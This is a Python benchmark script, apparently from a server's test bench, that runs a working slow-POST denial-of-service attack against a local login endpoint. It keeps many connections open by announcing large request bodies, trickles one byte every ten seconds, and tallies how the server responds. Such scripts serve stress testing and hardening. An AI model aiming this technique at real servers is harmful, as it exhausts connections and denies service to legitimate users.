"""The slow-POST attacker of bench/slow-bodies.sh: keeps N connections that each send the headers of a
sign-in with Content-Length: 900000 and then one byte every 10 s. A connection the server answers or
closes is opened again at once. On SIGTERM it prints how the server answered."""
import collections, selectors, signal, socket, sys, time

port, wanted = int(sys.argv[1]), int(sys.argv[2])
HEAD = (b"POST /api/v1/auth/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
        b"Content-Length: 900000\r\n\r\n{")
answers, opened = collections.Counter(), 0
selector = selectors.DefaultSelector()
last_byte = {}

def open_one():
    global opened
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(HEAD)
    s.setblocking(False)
    selector.register(s, selectors.EVENT_READ)
    last_byte[s] = time.time()
    opened += 1

def report(*_):
    print(f"connections opened: {opened}; answers: {dict(answers)}")
    sys.exit(0)

signal.signal(signal.SIGTERM, report)
for _ in range(wanted):
    open_one()
while True:
    for key, _ in selector.select(timeout=1):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        answers[data.split(b" ", 2)[1].decode() if data.startswith(b"HTTP/") else "closed"] += 1
        selector.unregister(s)
        del last_byte[s]
        s.close()
        open_one()
    now = time.time()
    for s, at in list(last_byte.items()):
        if now - at >= 10:
            try:
                s.send(b" ")
            except OSError:
                pass
            last_byte[s] = now
